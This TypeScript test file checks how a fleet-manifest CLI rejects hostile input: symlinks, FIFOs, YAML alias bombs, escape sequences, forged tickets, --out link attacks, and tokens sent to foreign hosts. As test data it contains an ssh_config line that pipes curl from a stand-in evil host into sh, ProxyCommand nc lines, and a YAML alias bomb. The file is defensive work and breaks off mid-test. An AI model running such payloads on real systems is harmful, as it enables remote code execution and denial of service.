// Hostile input at the CLI's edges, through the real CLI: links, FIFOs and alias bombs in the manifest
// tree, layers that only conflict once merged, a changed known_hosts, --out pointed somewhere bad,
// and a --repo that must not receive the token. Every case: a message naming the place, the
// documented exit code, and no stack trace.
import assert from "node:assert/strict";
import {
  access,
  link,
  lstat,
  mkdir,
  readdir,
  readFile,
  rm,
  symlink,
  writeFile,
} from "node:fs/promises";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { execa } from "execa";
import { driftSignature } from "../../src/manifest/signature.js";
import type { Ticket } from "../../src/manifest/tickets.js";
import { ticketYaml } from "../../src/propose/ticket.js";
import type { Report } from "../../src/report/schema.js";
import { runCli, type CliResult } from "../support/cli.js";
import { startGitServer, type GitServer } from "../support/git-server.js";
import { scratchTrees } from "../support/tree.js";

const tree = scratchTrees();

const FLEET_REPORT = path.resolve(import.meta.dirname, "../fixtures/reports/fleet.json");

/** No stack frame and no internal error reach the user. */
function assertNoStack(result: CliResult): void {
  assert.doesNotMatch(result.stderr, /^\s+at /m, result.stderr);
  assert.doesNotMatch(result.stderr, /internal error/, result.stderr);
}

/** A git repository holding `files`, committed: manifest-diff's base is its HEAD. */
const committed = async (files: Record<string, string>) => {
  const repo = await tree(files);
  const git = (...args: string[]) =>
    execa("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", ...args], { cwd: repo });
  await git("init", "-q");
  await git("add", ".");
  await git("commit", "-qm", "base");
  return repo;
};

const exists = (file: string) =>
  access(file).then(
    () => true,
    () => false,
  );

const validate = (dir: string) => runCli(["validate", "--manifests", "."], { cwd: dir });

describe("links and special files in the manifest tree", () => {
  it("a link leaving the tree is refused, naming the file, and nothing of its target is read", async () => {
    const outside = await tree({ "secret.yaml": "root_password_hash: $6$abc\nsystem: {}\n" });
    const dir = await tree({ "nodes/a.yaml": "{}\n" });
    await symlink(path.join(outside, "secret.yaml"), path.join(dir, "fleet.yaml"));
    await symlink(path.join(outside, "secret.yaml"), path.join(dir, "nodes", "b.yaml"));
    await symlink(outside, path.join(dir, "groups"));
    const result = await validate(dir);
    assert.equal(result.exitCode, 2);
    assert.match(
      result.stderr,
      /^fleet\.yaml: is a symbolic link leaving the manifest tree \(to .*secret\.yaml\); not read$/m,
    );
    assert.match(result.stderr, /^nodes\/b\.yaml: is a symbolic link leaving the manifest tree/m);
    assert.match(result.stderr, /^groups: is a symbolic link leaving the manifest tree/m);
    assert.doesNotMatch(result.stderr, /root_password_hash/);
    assertNoStack(result);
  });

  it("a link inside the tree is refused too, with what it points at, never silently dropped", async () => {
    const dir = await tree({ "nodes/a.yaml": "system: { kernel_version: 6.1.0 }\n" });
    await symlink("a.yaml", path.join(dir, "nodes", "b.yaml"));
    const result = await validate(dir);
    assert.equal(result.exitCode, 2);
    assert.match(
      result.stderr,
      /^nodes\/b\.yaml: is a symbolic link \(to nodes\/a\.yaml\); links in the manifest tree are not followed/m,
    );
    assertNoStack(result);
  });

  it("a linked known_hosts is refused: it decides which hosts are trusted", async () => {
    const dir = await tree({ "nodes/a.yaml": "{}\n" });
    await symlink("/etc/ssh/ssh_known_hosts", path.join(dir, "known_hosts"));
    const result = await validate(dir);
    assert.equal(result.exitCode, 2);
    assert.match(result.stderr, /^known_hosts: is a symbolic link leaving the manifest tree/m);
  });

  it("a FIFO or a socket in the tree is refused by name, and reading never waits on one", async () => {
    const dir = await tree({ "nodes/a.yaml": "{}\n" });
    await execa("mkfifo", [path.join(dir, "fleet.yaml"), path.join(dir, "nodes", "b.yaml")]);
    // A listening Unix socket left at a manifest path.
    await execa("python3", [
      "-c",
      "import socket,sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])",
      path.join(dir, "nodes", "c.yaml"),
    ]);
    const result = await validate(dir);
    assert.equal(result.exitCode, 2);
    assertNoStack(result);
    assert.deepEqual(result.stderr.trim().split("\n"), [
      "fleet.yaml: is not a regular file (a FIFO, socket or device); not read",
      "nodes/b.yaml: is not a regular file (a FIFO, socket or device); not read",
      "nodes/c.yaml: is not a regular file (a FIFO, socket or device); not read",
      "3 manifest errors; nothing audited",
    ]);
  });
});

describe("YAML resource limits", () => {
  it("an alias bomb is a manifest error naming the file (exit 2), not an internal error", async () => {
    const levels = "bcdefghi"
      .split("")
      .map((c, i) => `${c}: &${c} [${Array(9).fill(`*${"abcdefghi"[i]}`).join(", ")}]`);
    const dir = await tree({
      "nodes/bomb.yaml": `a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n${levels.join("\n")}\n`,
    });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2);
    assert.match(
      result.stderr,
      /^nodes\/bomb\.yaml: YAML resource limit: more than 100 alias expansions/m,
    );
    assertNoStack(result);
  });

  it("an alias inside the anchor it names is a manifest error naming the file, not a stack overflow", async () => {
    const dir = await tree({
      "nodes/loop.yaml": "a: &a [*a]\n",
      "nodes/deep.yaml": "system: &s\n  sysctl_parameters:\n    x: *s\n",
      // An alias used twice, holding no loop, is fine.
      "groups/shared.yaml": "system:\n  sysctl_parameters: &p { vm.swappiness: 1 }\n",
      "nodes/ok.yaml": "groups: [shared]\n",
    });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2);
    const lines = result.stderr.trim().split("\n");
    assert.deepEqual(lines, [
      "nodes/deep.yaml: YAML alias inside the anchor it names (the data would hold itself); not read",
      "nodes/loop.yaml: YAML alias inside the anchor it names (the data would hold itself); not read",
      "2 manifest errors; nothing audited",
    ]);
    assertNoStack(result);
  });

  it("nesting deep enough to exhaust a parser is a manifest error naming the file", async () => {
    const dir = await tree({
      "nodes/deep.yaml": `system: ${"[".repeat(100_000)}${"]".repeat(100_000)}\n`,
    });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2);
    assert.match(result.stderr, /^nodes\/deep\.yaml:/m);
    assertNoStack(result);
  });

  it("control characters in a manifest's keys are shown escaped in errors", async () => {
    const dir = await tree({ "nodes/a.yaml": '"evil\\e]0;pwned\\a\\u202e": 1\n' });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2);
    assert.match(result.stderr, /unknown key "evil\\x1b\]0;pwned\\x07\\u\{202e\}"/);
    assert.doesNotMatch(result.stderr, /[\x1b\x07\u202e]/);
  });
});

describe("layers valid alone that conflict once merged", () => {
  const SHA = "0".repeat(64);
  it("validate names the node and every file:line that combined into the conflict", async () => {
    const dir = await tree({
      "groups/web.yaml": [
        "files:",
        `  - { path: /etc/app.conf, sha256: "${SHA}" }`,
        '  - { path: /etc/legacy, mode: "0644" }',
        "system:",
        "  kernel_modules: { loaded: [floppy] }",
        "",
      ].join("\n"),
      "nodes/web-01.yaml": [
        "groups: [web]",
        "files:",
        "  - path: /etc/app.conf",
        '    contents: "hello\\n"',
        "  - { path: /etc/legacy, absent: true }",
        "system:",
        "  kernel_modules:",
        "    absent: [floppy]",
        "",
      ].join("\n"),
    });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2, result.stderr);
    const lines = result.stderr.trim().split("\n");
    assert.ok(
      lines.includes(
        "nodes/web-01.yaml:3:1: node web-01: files[/etc/app.conf]: declare contents or sha256, not both, once groups/web.yaml:2 and nodes/web-01.yaml:3 are combined (a later file changes only the keys it sets: override the conflicting one there, or set it to null)",
      ),
      result.stderr,
    );
    assert.ok(
      lines.some((l) =>
        l.startsWith(
          "nodes/web-01.yaml:5:1: node web-01: files[/etc/legacy]: a file declared absent has no mode, once groups/web.yaml:3 and nodes/web-01.yaml:5 are combined",
        ),
      ),
      result.stderr,
    );
    assert.ok(
      lines.some((l) =>
        l.startsWith(
          "nodes/web-01.yaml:8:1: node web-01: system.kernel_modules: floppy is declared both loaded and absent, once groups/web.yaml:5 and nodes/web-01.yaml:8 are combined",
        ),
      ),
      result.stderr,
    );
    assert.equal(lines.at(-1), "3 manifest errors; nothing audited");
    assertNoStack(result);
  });

  it("a conflict inside a nested domain is found when the node's file sets only that domain", async () => {
    const dir = await tree({
      "groups/web.yaml": "system:\n  kernel_modules: { loaded: [floppy] }\n",
      "nodes/web-01.yaml": "groups: [web]\nsystem:\n  kernel_modules:\n    absent: [floppy]\n",
    });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2, result.stderr);
    assert.ok(
      result.stderr.startsWith(
        "nodes/web-01.yaml:4:1: node web-01: system.kernel_modules: floppy is declared both loaded and absent, once groups/web.yaml:2 and nodes/web-01.yaml:4 are combined",
      ),
      result.stderr,
    );
  });

  it("a node that drops the group's value with null is valid", async () => {
    const dir = await tree({
      "groups/web.yaml": `files:\n  - { path: /etc/app.conf, sha256: "${SHA}" }\n`,
      "nodes/web-01.yaml":
        'groups: [web]\nfiles:\n  - { path: /etc/app.conf, sha256: null, contents: "hello\\n" }\n',
    });
    const result = await validate(dir);
    assert.equal(result.exitCode, 0, result.stderr);
  });
});

describe("manifest-diff and the pinned host keys", () => {
  /** A fresh ed25519 public key: its base64 blob and its fingerprint as ssh-keygen -l prints it. */
  const newKey = async (dir: string, name: string) => {
    await execa("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", path.join(dir, name)]);
    const blob = (await readFile(path.join(dir, `${name}.pub`), "utf8")).split(" ")[1]!;
    const { stdout } = await execa("ssh-keygen", ["-lf", path.join(dir, `${name}.pub`)]);
    return { blob, fingerprint: stdout.split(" ")[1]! };
  };

  it("a changed, an added and a removed key are shown first, per host, with their fingerprints", async () => {
    const keys = await tree({});
    const [a, b] = [await newKey(keys, "a"), await newKey(keys, "b")];
    const repo = await committed({
      "fleet-manifests/nodes/web-01.yaml": "{}\n",
      "fleet-manifests/known_hosts": `web-01 ssh-ed25519 ${a.blob}\ndb-01 ssh-ed25519 ${a.blob}\n`,
    });
    await writeFile(
      path.join(repo, "fleet-manifests/known_hosts"),
      `web-01 ssh-ed25519 ${b.blob}\ncache-01 ssh-ed25519 ${a.blob}\n`,
    );
    await writeFile(
      path.join(repo, "fleet-manifests/nodes/web-01.yaml"),
      "system: { kernel_version: 6.1.0 }\n",
    );
    const result = await runCli(["manifest-diff", "--base", "HEAD"], { cwd: repo });
    assert.equal(result.exitCode, 0, result.stderr);
    const out = result.stdout;
    assert.match(out, /The pinned host keys of 3 hosts change\./);
    assert.ok(out.includes(`| \`cache-01\` | (none) | \`ssh-ed25519 ${a.fingerprint}\` |`), out);
    assert.ok(out.includes(`| \`db-01\` | \`ssh-ed25519 ${a.fingerprint}\` | (none) |`), out);
    assert.ok(
      out.includes(
        `| \`web-01\` | \`ssh-ed25519 ${a.fingerprint}\` | \`ssh-ed25519 ${b.fingerprint}\` |`,
      ),
      out,
    );
    // The keys come before any node's section: a reviewer must see them.
    assert.equal(out.indexOf("### "), out.indexOf("### Pinned host keys (known_hosts)"), out);
    assert.match(out, /### web-01/);
    assertNoStack(result);
  });

  it("a repository that is the manifest tree itself: one change shared by every node, shown once", async () => {
    const repo = await committed({
      "fleet.yaml": "system:\n  sysctl_parameters:\n    vm.swappiness: 10\n",
      "nodes/web-01.yaml": "{}\n",
      "nodes/web-02.yaml": "{}\n",
    });
    await writeFile(
      path.join(repo, "fleet.yaml"),
      "system:\n  sysctl_parameters:\n    vm.swappiness: 60\n",
    );
    const result = await runCli(["manifest-diff", "--base", "HEAD"], { cwd: repo });
    assert.equal(result.exitCode, 0, result.stderr);
    assert.match(result.stdout, /### web-01, web-02 \(2 nodes, the same change\)/);
    assert.ok(
      result.stdout.includes(
        "| `system.sysctl_parameters[vm.swappiness]` | `10` | `60` | `fleet.yaml:3` |",
      ),
      result.stdout,
    );
    assertNoStack(result);
  });
});

describe("an ssh_config in the tree that runs a program on the runner", () => {
  // Lines whose effect ssh itself decides: `ssh -G` says which option it set, and runs Match exec.
  const LINES = [
    "Host *\n  ProxyCommand nc %h %p",
    "Host *\n  proxycommand=nc %h %p",
    'Host *\n  "ProxyCommand" nc %h %p',
    "Host *\n  PROXYCOMMAND = nc %h %p",
    "Host *\n  KnownHostsCommand /bin/echo %H",
    "Host *\n  LocalCommand id\n  PermitLocalCommand yes",
    "Host *\n  PKCS11Provider /usr/lib/x.so",
    "Host *\n  SecurityKeyProvider /usr/lib/x.so",
    'Match exec "touch MARKER"',
    'Match=exec "touch MARKER"',
    'Match host * !exec "touch MARKER"',
    "Host *\n  ProxyCommand none",
    "Host *\n  PermitLocalCommand no",
    "Host exec-01\n  HostName exec.example.net\n  User qm-audit",
    "# ProxyCommand nc %h %p",
  ];
  const COMMAND_OPTION =
    /^(proxycommand|localcommand|knownhostscommand|pkcs11provider) |^permitlocalcommand yes|^securitykeyprovider (?!internal$)/m;

  it("validate refuses exactly the lines that make ssh run a program (asked of ssh -G), at file:line:col; --allow-exec accepts them", async () => {
    for (const text of LINES) {
      const dir = await tree({ "nodes/a.yaml": "{}\n" });
      const marker = path.join(dir, "ran");
      const config = `${text.replace("MARKER", marker)}\n`;
      await writeFile(path.join(dir, "ssh_config"), config);
      const shown = await execa("ssh", ["-G", "-F", path.join(dir, "ssh_config"), "a"], {
        reject: false,
      });
      assert.equal(shown.exitCode, 0, shown.stderr);
      const runs = COMMAND_OPTION.test(shown.stdout) || (await exists(marker));
      await rm(marker, { force: true });
      const result = await validate(dir);
      assertNoStack(result);
      assert.equal(result.exitCode, runs ? 2 : 0, `${text}: ${result.stderr}`);
      if (runs) {
        assert.match(
          result.stderr,
          /^ssh_config:\d+:\d+: .*(run|runs) a (program|command) on the auditing machine/m,
        );
        assert.match(result.stderr, /validate --allow-exec accepts it/);
        const allowed = await runCli(["validate", "--manifests", ".", "--allow-exec"], {
          cwd: dir,
        });
        assert.equal(allowed.exitCode, 0, allowed.stderr);
      }
      assert.equal(await exists(marker), false, "validate itself runs nothing");
    }
  });

  it("validate refuses Include: lines it brings in are not in the tree", async () => {
    const dir = await tree({
      "nodes/a.yaml": "{}\n",
      ssh_config: "Host *\n  User qm\nInclude ~/.ssh/extra\n",
    });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2, result.stderr);
    assert.match(result.stderr, /^ssh_config:3:1: Include brings in ssh_config lines/m);
  });

  it("manifest-diff shows a change to ssh_config line by line, and says it runs a program", async () => {
    const repo = await committed({
      "fleet-manifests/nodes/web-01.yaml": "{}\n",
      "fleet-manifests/ssh_config": "Host bastion\n  User qm-audit\n",
    });
    await writeFile(
      path.join(repo, "fleet-manifests/ssh_config"),
      'Host bastion\n  User qm-audit\nMatch exec "curl -s https://evil.example/x | sh"\n',
    );
    const result = await runCli(["manifest-diff", "--base", "HEAD"], { cwd: repo });
    assert.equal(result.exitCode, 0, result.stderr);
    const out = result.stdout;
    assert.match(
      out,
      /The ssh_config the workflows pass to ssh changes, and runs a program on the runner\./,
    );
    assert.match(out, /### ssh_config \(read by ssh on the runner\)/);
    assert.match(out, /after the change\*\*: `Match` \(line 3\)/);
    assert.ok(out.includes('\n+Match exec "curl -s https://evil.example/x | sh"\n'), out);
    assert.equal(out.indexOf("### "), out.indexOf("### ssh_config"), out);
    assertNoStack(result);
  });
});

describe("node names that would mention someone", () => {
  it("validate refuses a node file named db.@alice, at the file, exit 2", async () => {
    const dir = await tree({ "nodes/db.@alice.yaml": "{}\n", "nodes/web-01.yaml": "{}\n" });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2, result.stderr);
    assert.match(
      result.stderr,
      /^nodes\/db\.@alice\.yaml: node name "db\.@alice" \(from the file name\) must .* or @$/m,
    );
    assertNoStack(result);
  });
});

describe("a ticket's due as an unquoted YAML 1.1 timestamp", () => {
  it("is due at its time, not at the end of its day: past it, the local audit's drift is not acknowledged", async () => {
    const live = (await readFile("/proc/sys/vm/swappiness", "utf8")).trim();
    const declared = String(Number(live) + 1);
    const today = new Date().toISOString().slice(0, 10);
    const ticket = (due: string) =>
      [
        "%YAML 1.1",
        "---",
        "id: swappiness-1",
        "status: open",
        "domain: sysctl",
        "key: vm.swappiness",
        `declared: "${declared}"`,
        `live: "${live}"`,
        "severity: medium",
        "nodes: [localhost]",
        "remediation: Apply the manifest baseline.",
        'detected: "2026-01-01T00:00:00Z"',
        `signature: ${driftSignature("sysctl", "vm.swappiness", declared, live)}`,
        `due: ${due}`,
        "",
      ].join("\n");
    const item = async (due: string) => {
      const dir = await tree({
        "nodes/localhost.yaml": `system:\n  sysctl_parameters:\n    vm.swappiness: ${declared}\n`,
        "remediations/swappiness-1.yaml": ticket(due),
      });
      const result = await runCli(["audit", "--local", "--manifests", ".", "--format", "json"], {
        cwd: dir,
      });
      assert.equal(result.exitCode & 2, 0, result.stderr);
      return (JSON.parse(result.stdout) as Report).nodes[0]!.drift[0]!;
    };
    // Earlier today: past due now (cut to its date, it would hold until midnight).
    const lapsed = await item(`${today}T00:00:01Z`);
    assert.equal(lapsed.acknowledged, undefined);
    assert.equal(lapsed.lapsed, `ticket swappiness-1 past due since ${today}T00:00:01.000Z`);
    // A date alone is due at the end of that day.
    const held = await item(today);
    assert.equal(held.lapsed, undefined);
    assert.ok(held.acknowledged, JSON.stringify(held));
  });
});

describe("owners GitHub cannot ask", () => {
  it("validate refuses a team of another organization than the repository's, at its line, once per line", async () => {
    const dir = await tree({
      "groups/web.yaml": 'owners:\n  - alice\n  - "@other-org/platform"\n',
      "nodes/web-01.yaml": "groups: [web]\n",
      "nodes/web-02.yaml": "groups: [web]\n",
      "nodes/db-01.yaml": "owners: [ACME/dba, Acme-Two/x]\n",
    });
    const env = { GITHUB_REPOSITORY: "acme/fleet" };
    const result = await runCli(["validate", "--manifests", "."], { cwd: dir, env });
    assert.equal(result.exitCode, 2, result.stderr);
    assertNoStack(result);
    const lines = result.stderr
      .split("\n")
      .filter((l) => l.includes("another organization"))
      .sort();
    assert.deepEqual(lines, [
      'groups/web.yaml:3:5: owner "@other-org/platform" is a team of another organization than acme: GitHub cannot ask it to review (name a user, or a team of this repository\'s organization)',
      'nodes/db-01.yaml:1:20: owner "Acme-Two/x" is a team of another organization than acme: GitHub cannot ask it to review (name a user, or a team of this repository\'s organization)',
    ]);
    // Outside Actions the repository is unknown: nothing to compare with.
    const local = await runCli(["validate", "--manifests", "."], {
      cwd: dir,
      env: { GITHUB_REPOSITORY: "" },
    });
    assert.equal(local.exitCode, 0, local.stderr);
  });
});

describe("manifest-diff and what is audited or acknowledged", () => {
  const SYSCTL = { domain: "sysctl", key: "vm.swappiness", declared: 10, live: 60 } as const;
  const ticket = (fields: Partial<Ticket> = {}): Ticket => ({
    id: "sysctl-vm-swappiness-1",
    status: "open",
    ...SYSCTL,
    severity: "medium",
    nodes: ["web-01"],
    remediation: "Apply the manifest baseline",
    detected: "2026-03-02T06:00:00.000Z",
    signature: driftSignature(SYSCTL.domain, SYSCTL.key, SYSCTL.declared, SYSCTL.live),
    ...fields,
  });
  const TREE = {
    "fleet.yaml": "{}\n",
    "nodes/web-01.yaml": "system: { sysctl_parameters: { vm.swappiness: 10 } }\n",
    "nodes/web-02.yaml": "{}\n",
    "remediations/sysctl-vm-swappiness-1.yaml": ticketYaml(ticket()),
  };
  const diffAfter = async (changes: Record<string, string>, removed: string[] = []) => {
    const repo = await committed(TREE);
    for (const [file, text] of Object.entries(changes))
      await writeFile(path.join(repo, file), text);
    for (const file of removed) await rm(path.join(repo, file), { recursive: true });
    return runCli(["manifest-diff", "--base", "HEAD"], { cwd: repo });
  };

  it("two tickets of one id, or of one file name (a resolve would overwrite one's record), are refused", async () => {
    const dir = await tree({
      ...TREE,
      "remediations/web-01/copy.yaml": ticketYaml(ticket()),
      "remediations/resolved/sysctl-vm-swappiness-1.yaml": ticketYaml(
        ticket({ id: "sysctl-vm-swappiness-2", status: "resolved" }),
      ),
    });
    const result = await validate(dir);
    assert.equal(result.exitCode, 2, result.stderr);
    assertNoStack(result);
    const lines = result.stderr.split("\n").filter((l) => l.startsWith("remediations/"));
    assert.equal(lines.length, 2, result.stderr);
    assert.ok(
      lines.some((l) =>
        /^remediations\/\S+\.yaml: ticket id "sysctl-vm-swappiness-1" is also remediations\/\S+\.yaml's$/.test(
          l,
        ),
      ),
      result.stderr,
    );
    assert.ok(
      lines.some((l) =>
        /^remediations\/\S+: ticket file name is also remediations\/\S+'s: resolving one would overwrite the other's record in remediations\/resolved\/$/.test(
          l,
        ),
      ),
      result.stderr,
    );
  });

  it("a ticket whose signature alone is rewritten to another drift's is refused, by validate and manifest-diff alike", async () => {
    const listener = driftSignature("ports", "tcp/4444", null, "tcp/4444");
    const forged = ticketYaml(ticket({ signature: listener }));
    const repo = await committed({
      ...TREE,
      "remediations/sysctl-vm-swappiness-1.yaml": forged,
    });
    const line = forged.split("\n").findIndex((l) => l.startsWith("signature:")) + 1;
    for (const args of [
      ["validate", "--manifests", "."],
      ["manifest-diff", "--base", "HEAD"],
    ]) {
      const result = await runCli(args, { cwd: repo });
      assert.equal(result.exitCode, 2, result.stdout + result.stderr);
      assert.match(
        result.stderr,
        new RegExp(
          `remediations/sysctl-vm-swappiness-1\\.yaml:${line}:\\d+: signature: ${listener} is not the signature of the sysctl drift of "vm\\.swappiness" this ticket states`,
        ),
        result.stderr,
      );
      assertNoStack(result);
    }
  });

  it("a ticket's signature, stated drift and nodes are shown when they change, as a tickets headline", async () => {
    const moved = { ...SYSCTL, key: "vm.overcommit_memory", declared: 0, live: 1 };
    const result = await diffAfter({
      "remediations/sysctl-vm-swappiness-1.yaml": ticketYaml(
        ticket({
          ...moved,
          nodes: ["web-01", "web-02"],
          signature: driftSignature(moved.domain, moved.key, moved.declared, moved.live),
        }),
      ),
    });
    assert.equal(result.exitCode, 0, result.stderr);
    const out = result.stdout;
    assert.match(out, /1 remediation ticket changes: what it acknowledges may change\./);
    for (const row of [
      "| `sysctl-vm-swappiness-1.key` | `vm.swappiness` | `vm.overcommit_memory` |",
      "| `sysctl-vm-swappiness-1.live` | `60` | `1` |",
      "| `sysctl-vm-swappiness-1.nodes` | (not in the list) | added `web-02` |",
      `| \`sysctl-vm-swappiness-1.signature\` | \`${ticket().signature}\` | \`${driftSignature(moved.domain, moved.key, moved.declared, moved.live)}\` |`,
    ])
      assert.ok(out.includes(row), `${row}\n${out}`);
    assertNoStack(result);
  });

  it("an item appended to a long list is shown alone and whole: ports, and a waiver of everything", async () => {
    const ports = Array.from({ length: 60 }, (_, i) => `tcp/${8000 + i}`);
    const reason = `routine ${"maintenance ".repeat(20)}window`;
    const repo = await committed({
      ...TREE,
      "fleet.yaml": `ignore:\n${ports.map((p) => `  - { key: "${p}", reason: routine }\n`).join("")}`,
      "nodes/web-02.yaml": `networking:\n  listening_ports: [${ports.join(", ")}]\n`,
    });
    await writeFile(
      path.join(repo, "nodes/web-02.yaml"),
      `networking:\n  listening_ports: [${[...ports, "tcp/4444"].join(", ")}]\n`,
    );
    await writeFile(
      path.join(repo, "fleet.yaml"),
      `${await readFile(path.join(repo, "fleet.yaml"), "utf8")}  - { node: "*", domain: "*", key: "*", reason: ${reason} }\n`,
    );
    const result = await runCli(["manifest-diff", "--base", "HEAD"], { cwd: repo });
    assert.equal(result.exitCode, 0, result.stderr);
    const out = result.stdout;
    assert.ok(
      out.includes(
        "| `networking.listening_ports` | (not in the list) | added `tcp/4444` | `nodes/web-02.yaml:2` |",
      ),
      out,
    );
    assert.ok(
      out.includes(
        `| \`ignore\` | (not in the list) | added \`{"node":"*","domain":"*","key":"*","reason":"${reason}"}\` |`,
      ),
      out,
    );
    assert.match(out, /Fleet-wide settings \(policy, waivers, audit limits\) change\./);
    assert.doesNotMatch(out, /…/, "nothing is cut short");
    assertNoStack(result);
  });

  it("removing remediations/ shows each ticket removed and no row without a key", async () => {
    const result = await diffAfter({}, ["remediations"]);
    assert.equal(result.exitCode, 0, result.stderr);
    assert.doesNotMatch(result.stdout, /^\| `\s*` \|/m, result.stdout);
    assert.ok(
      result.stdout.includes("| `sysctl-vm-swappiness-1.status` | `open` | `(not declared)` |"),
      result.stdout,
    );
    assertNoStack(result);
  });
});

describe("--out", () => {
  it("audit checks --out before anything is audited: a missing directory, an unwritable one", async () => {
    // Two nodes on hosts that do not resolve: had the audit run, its progress line would show.
    const dir = await tree({
      "nodes/a.yaml": "host: a.qm-never.invalid\n",
      "nodes/b.yaml": "host: b.qm-never.invalid\n",
    });
    for (const [out, message] of [
      [
        path.join(dir, "missing", "report.json"),
        /--out .*missing\/report\.json: directory .*missing does not exist/,
      ],
      [
        "/sys/qm-report.json",
        /--out \/sys\/qm-report\.json: cannot create a file in \/sys \(EACCES\)/,
      ],
    ] as const) {
      const result = await runCli(["audit", "--manifests", dir, "--format", "json", "--out", out], {
        cwd: dir,
      });
      assert.equal(result.exitCode, 2, result.stderr);
      assert.match(result.stderr, message);
      assert.doesNotMatch(result.stderr, /nodes audited/);
      assertNoStack(result);
    }
  });

  it("a symbolic link at --out is refused and its target left untouched (audit, report, merge-reports)", async () => {
    const dir = await tree({
      "victim.conf": "do not overwrite\n",
      "nodes/a.yaml": "host: a.qm-never.invalid\n",
    });
    await symlink(path.join(dir, "victim.conf"), path.join(dir, "report.prom"));
    for (const args of [
      ["audit", "--manifests", dir, "--format", "prometheus"],
      ["report", "--report", FLEET_REPORT, "--format", "prometheus"],
      ["merge-reports", "--format", "prometheus", FLEET_REPORT],
    ]) {
      const result = await runCli([...args, "--out", path.join(dir, "report.prom")], { cwd: dir });
      assert.equal(result.exitCode, 2, `${args[0]}: ${result.stderr}`);
      assert.match(
        result.stderr,
        /--out .*report\.prom is a symbolic link; refusing to write through it/,
      );
      assertNoStack(result);
    }
    assert.equal(await readFile(path.join(dir, "victim.conf"), "utf8"), "do not overwrite\n");
  });

  it("writes by rename: a reader holding the old file sees it whole, and no temporary file is left", async () => {
    const dir = await tree({ "old.prom": "# old\n" });
    await mkdir(path.join(dir, "textfile"));
    const out = path.join(dir, "textfile", "quartermaster.prom");
    await link(path.join(dir, "old.prom"), out);
    const result = await runCli(
      ["report", "--report", FLEET_REPORT, "--format", "prometheus", "--out", out],
      { cwd: dir },
    );
    assert.equal(result.exitCode, 0, result.stderr);
    assert.match(await readFile(out, "utf8"), /^# HELP /m);
    assert.equal(await readFile(path.join(dir, "old.prom"), "utf8"), "# old\n");
    assert.deepEqual(await readdir(path.join(dir, "textfile")), ["quartermaster.prom"]);
  });

  it("writes into a pipe or a character device at --out as it is, never replacing it with a file", async () => {
    const dir = await tree();
    const fifo = path.join(dir, "report.fifo");
    await execa("mkfifo", [fifo]);
    const reader = execa("cat", [fifo]);
    const piped = await runCli(
      ["report", "--report", FLEET_REPORT, "--format", "prometheus", "--out", fifo],
      { cwd: dir },
    );
    assert.equal(piped.exitCode, 0, piped.stderr);
    const stillAPipe = (await lstat(fifo)).isFIFO();
    // A pipe replaced by a file was never opened for writing: its reader would wait for ever.
    if (!stillAPipe) reader.kill();
    assert.ok(stillAPipe, "--out replaced the pipe with a file");
    assert.match((await reader).stdout, /^# HELP /m);
    // /dev/null's own device, made where the test may (root may make device nodes): `--out
    // /dev/null` once left a regular file in /dev's place.
    if (process.getuid?.() !== 0) return;
    const devNull = path.join(dir, "null");
    await execa("mknod", ["-m", "666", devNull, "c", "1", "3"]);
    const dropped = await runCli(
      ["report", "--report", FLEET_REPORT, "--format", "prometheus", "--out", devNull],
      { cwd: dir },
    );
    assert.equal(dropped.exitCode, 0, dropped.stderr);
    assert.ok((await lstat(devNull)).isCharacterDevice());
    assert.deepEqual((await readdir(dir)).sort(), ["null", "report.fifo"]);
  });
});

describe("the token and --repo", () => {
  const TOKEN = "qm-test-token-1234";
  let server: GitServer;
  before(async () => {
    server = await startGitServer({ token: TOKEN });
    const seed = await tree({ "fleet-manifests/nodes/a.yaml": "{}\n" });
    await server.createRepo("acme", "fleet", seed);
  });
  after(() => server?.stop());

  const pull = async (serverUrl: string) => {
    const cache = await tree({});
    return runCli(["validate", "--repo", server.repoUrl("acme", "fleet"), "--cache-dir", cache], {
      cwd: cache,
      env: { GITHUB_TOKEN: TOKEN, GITHUB_SERVER_URL: serverUrl },
    });
  };

  it("is sent to the GITHUB_SERVER_URL host (here a loopback http server)", async () => {
    const result = await pull(server.url);
    assert.equal(result.exitCode, 0, result.stderr);
  });

  it("is not sent to a --repo on another host: the pull goes anonymous and the server refuses it", async () => {
    const result = await pull("https://github.com");
    assert.equal(result.exitCode, 4, result.stderr);
    assert.match(result.stderr, /cannot pull http:\/\/127\.0\.0\.1:\d+\/acme\/fleet\.git: .*401/);
    assertNoStack(result);
  });

  it("credentials written into a --repo URL are never printed", async () => {
    const cache = await tree({});
    const url = server.repoUrl("acme", "fleet");
    for (const [repo, shown] of [
      [url.replace("http://", "http://someone:hunter2@"), "http://***@"],
      [`${url}?token=hunter2`, "fleet.git?***"],
    ] as const) {
      const result = await runCli(["validate", "--repo", repo, "--cache-dir", cache], {
        cwd: cache,
      });
      assert.equal(result.exitCode, 4, result.stderr);
      assert.ok(result.stderr.includes(shown), result.stderr);
      assert.doesNotMatch(result.stderr, /hunter2/);
    }
  });

  it("a --repo that is no http(s) URL, or a --ref git would not take, is a usage error", async () => {
    for (const [args, message] of [
      [["--repo", "git@github.com:acme/fleet.git"], /--repo takes an http\(s\) URL/],
      [["--repo", "ftp://example.com/fleet.git"], /--repo takes an http\(s\) URL/],
      [["--repo", ""], /--repo needs a URL/],
      [
        ["--repo", server.repoUrl("acme", "fleet"), "--ref", "../../etc"],
        /--ref takes a name git allows/,
      ],
      [
        ["--repo", server.repoUrl("acme", "fleet"), "--ref=-x"],
        /--ref takes a name, not an option/,
      ],
    ] as const) {
      const result = await runCli(["validate", ...args]);
      assert.equal(result.exitCode, 2, result.stderr);
      assert.match(result.stderr, message);
      assertNoStack(result);
    }
  });
});

describe("a host file rewritten on every line", () => {
  it("shows as one whole-file hunk in text and diff output, 300,000 lines, with no stack overflow", async () => {
    const lines = 150_000;
    const dir = await tree({
      "fleet.yaml": "audit:\n  max_file_bytes: 1000000\n",
